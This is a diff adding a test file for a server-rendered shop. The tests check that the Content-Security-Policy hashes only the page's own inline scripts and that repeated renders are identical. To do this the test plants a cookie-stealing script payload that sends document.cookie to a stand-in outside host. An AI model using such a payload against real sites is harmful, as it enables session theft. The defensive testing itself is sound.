@@ -1,0 +1,90 @@
+import { createHash } from "node:crypto";
+import Fastify, { type FastifyInstance } from "fastify";
+import { createElement } from "react";
+import type { ServerBuild } from "react-router";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import { defaultBrand } from "#contract/brand.ts";
+import type { Caller } from "#contract/caller.ts";
+import * as entry from "#web/entry.server.tsx";
+import * as root from "#web/root.tsx";
+import { registerPages } from "./pages.ts";
+import { createPagePolicy } from "./security-headers.ts";
+
+const planted = "fetch('https://elsewhere.example/?'+document.cookie)";
+const hostile = `<p>Text</p><script>${planted}</script><script nonce="">${planted}</script><script nonce="guess">${planted}</script>`;
+
+/** The real root and renderer around a screen whose text nobody has cleaned. */
+const build = {
+  entry: { module: entry },
+  routes: {
+    root: { id: "root", path: "", module: root },
+    any: {
+      id: "any",
+      parentId: "root",
+      path: "*",
+      module: {
+        loader: () => ({ hostile: `</script>${hostile}` }),
+        // biome-ignore lint/security/noDangerouslySetInnerHtml: that is what is tested
+        default: () => createElement("div", { dangerouslySetInnerHTML: { __html: hostile } }),
+      },
+    },
+  },
+  assets: {
+    entry: { imports: [], module: "/assets/entry.js" },
+    routes: {
+      root: { id: "root", path: "", module: "/assets/root.js", imports: [], hasLoader: true },
+      any: { id: "any", parentId: "root", path: "*", module: "/assets/any.js", imports: [], hasLoader: true },
+    },
+    url: "/assets/manifest.js",
+    version: "1",
+  },
+  assetsBuildDirectory: "",
+  basename: "/",
+  publicPath: "/",
+  future: {},
+  isSpaMode: false,
+  ssr: true,
+  prerender: [],
+  routeDiscovery: { mode: "initial" },
+} as unknown as ServerBuild;
+
+let app: FastifyInstance;
+beforeAll(async () => {
+  app = Fastify();
+  await app.register((await import("@fastify/rate-limit")).default, { global: false });
+  await registerPages(app, {
+    build: async () => build,
+    calls: { listCategoryPremiums: async () => ({ data: [] }) } as unknown as Caller,
+    brand: defaultBrand,
+    publicUrl: "https://shop.example",
+    policy: createPagePolicy({ jsUrl: "https://js.stripe.com/x.js", apiUrl: new URL("https://api.stripe.com") }, false),
+    mode: "production",
+    limit: app.createRateLimit({ max: 10_000, timeWindow: 60_000 }),
+  });
+});
+afterAll(() => app.close());
+
+const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
+
+test("the policy lets through the page's own inline scripts and none that was planted in it", async () => {
+  const { statusCode, body, headers } = await app.inject("/x");
+  expect(statusCode).toBe(200);
+  const policy = String(headers["content-security-policy"]);
+  const inline = [...body.matchAll(/<script(?![^>]* src=)[^>]*>([\s\S]*?)<\/script>/g)].map(([, code = ""]) => code);
+  const [foreign, own] = [inline.filter((code) => code === planted), inline.filter((code) => code !== planted)];
+  // Theme, context, data of the loaders, scroll position and the module that starts all.
+  expect([foreign.length, own.length >= 4]).toEqual([3, true]);
+  for (const code of own) expect(policy, code.slice(0, 60)).toContain(hashOf(code));
+  expect(policy).not.toContain(hashOf(planted));
+  expect(policy.match(/'sha256-/g)).toHaveLength(new Set(own).size + 1);
+});
+
+test("the mark of a rendering is in no answer: the same page has the same bytes and tag", async () => {
+  const [first, second] = [await app.inject("/x"), await app.inject("/x")];
+  expect(first.body).toBe(second.body);
+  expect(first.headers).toMatchObject({
+    etag: second.headers.etag,
+    "content-security-policy": second.headers["content-security-policy"],
+  });
+  expect(first.body).not.toMatch(/[0-9a-f]{8}-[0-9a-f]{4}-/);
+});
